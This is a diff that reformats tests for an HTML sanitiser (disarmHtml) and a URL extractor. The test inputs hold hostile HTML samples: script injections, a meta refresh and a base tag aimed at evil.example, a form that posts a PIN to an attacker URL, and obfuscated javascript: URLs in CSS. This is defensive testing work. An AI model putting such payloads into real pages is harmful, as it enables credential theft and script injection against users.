@@ -6,14 +6,18 @@ const kinds = (html: string, o = {}) => disarmHtml(html, o).findings.map((f) => 
 
 describe('disarming', () => {
   it('removes scripts, object, embed and applet', () => {
-    const r = disarmHtml('<p>a</p><script>steal()</script><object data="x.swf"></object><embed src="y.swf"><applet code="Z"></applet><svg><script>x()</script></svg>');
+    const r = disarmHtml(
+      '<p>a</p><script>steal()</script><object data="x.swf"></object><embed src="y.swf"><applet code="Z"></applet><svg><script>x()</script></svg>',
+    );
     expect(r.findings.map((f) => f.kind)).toEqual(['script', 'script', 'object', 'object', 'object']);
     expect(r.html).toBe('<p>a</p><svg></svg>');
     expect(r.changed).toBe(true);
   });
 
   it('removes meta refresh and base, keeps other meta', () => {
-    const r = disarmHtml('<html><head><meta charset="utf-8"><meta http-equiv="REFRESH" content="0;url=http://evil.example/"><base href="http://evil.example/"></head><body>x</body></html>');
+    const r = disarmHtml(
+      '<html><head><meta charset="utf-8"><meta http-equiv="REFRESH" content="0;url=http://evil.example/"><base href="http://evil.example/"></head><body>x</body></html>',
+    );
     expect(r.findings.map((f) => f.kind)).toEqual(['meta-refresh', 'js-url']);
     expect(r.html).toContain('<meta charset="utf-8">');
     expect(r.html).not.toMatch(/refresh|<base/i);
@@ -27,8 +31,13 @@ describe('disarming', () => {
   });
 
   it('unwraps forms and drops formaction', () => {
-    const r = disarmHtml('<form action="https://evil.example/steal" method="post"><label>PIN <input name="pin"></label><button formaction="https://evil.example/b">Send</button></form>');
-    expect(r.findings.map((f) => f.detail)).toEqual(['unwrapped <form> posting to https://evil.example/steal', 'removed formaction https://evil.example/b on <button>']);
+    const r = disarmHtml(
+      '<form action="https://evil.example/steal" method="post"><label>PIN <input name="pin"></label><button formaction="https://evil.example/b">Send</button></form>',
+    );
+    expect(r.findings.map((f) => f.detail)).toEqual([
+      'unwrapped <form> posting to https://evil.example/steal',
+      'removed formaction https://evil.example/b on <button>',
+    ]);
     expect(r.html).toBe('<label>PIN <input name="pin"></label><button>Send</button>');
   });
 
@@ -54,7 +63,9 @@ describe('disarming', () => {
   });
 
   it('neutralises url() in style attributes and style sheets, escapes included', () => {
-    const r = disarmHtml('<style>.a{background:url("javascript:x()")}</style><p style="background:url(java\\73 cript:alert(1))">x</p><div style="width:expression(alert(1))">y</div>');
+    const r = disarmHtml(
+      '<style>.a{background:url("javascript:x()")}</style><p style="background:url(java\\73 cript:alert(1))">x</p><div style="width:expression(alert(1))">y</div>',
+    );
     expect(r.findings.map((f) => f.kind)).toEqual(['js-url', 'js-url', 'js-url']);
     expect(r.html).not.toMatch(/javascript|java\\73/);
     expect(r.html).toContain('x-expression(');
@@ -74,7 +85,8 @@ describe('disarming', () => {
 });
 
 describe('web bugs', () => {
-  const page = '<p>x</p><img src="https://track.example/o.gif" width="1" height="1"><img src="https://cdn.example/banner.jpg" alt="Summer sale"><div style="background-image:url(https://cdn.example/bg.png)">y</div>';
+  const page =
+    '<p>x</p><img src="https://track.example/o.gif" width="1" height="1"><img src="https://cdn.example/banner.jpg" alt="Summer sale"><div style="background-image:url(https://cdn.example/bg.png)">y</div>';
 
   it('always removes tracking pixels, even when remote images are kept', () => {
     const r = disarmHtml(page, { remoteImages: 'keep' });
@@ -168,12 +180,16 @@ describe('bounds', () => {
 
 describe('extractUrls', () => {
   it('returns hosts from links, resources, CSS and text', () => {
-    const html = '<a href="https://a.example/x">x</a><img src="//b.example/i.png"><div style="background:url(http://c.example/bg)"></div><p>see www.d.example.org or http://e.example:8080/ and f.co.uk</p><a href="mailto:x@g.example">m</a>';
+    const html =
+      '<a href="https://a.example/x">x</a><img src="//b.example/i.png"><div style="background:url(http://c.example/bg)"></div><p>see www.d.example.org or http://e.example:8080/ and f.co.uk</p><a href="mailto:x@g.example">m</a>';
     expect(extractUrls(html).sort()).toEqual(['a.example', 'b.example', 'c.example', 'e.example', 'f.co.uk', 'www.d.example.org']);
   });
 
   it('reads plain text, skipping file names and e-mail addresses', () => {
-    expect(extractUrls('Go to HTTPS://Bank.Example/login or bank-secure.com; see report.pdf, mail me@x.example', { html: false })).toEqual(['bank.example', 'bank-secure.com']);
+    expect(extractUrls('Go to HTTPS://Bank.Example/login or bank-secure.com; see report.pdf, mail me@x.example', { html: false })).toEqual([
+      'bank.example',
+      'bank-secure.com',
+    ]);
   });
 
   it('punycodes international names', () => {
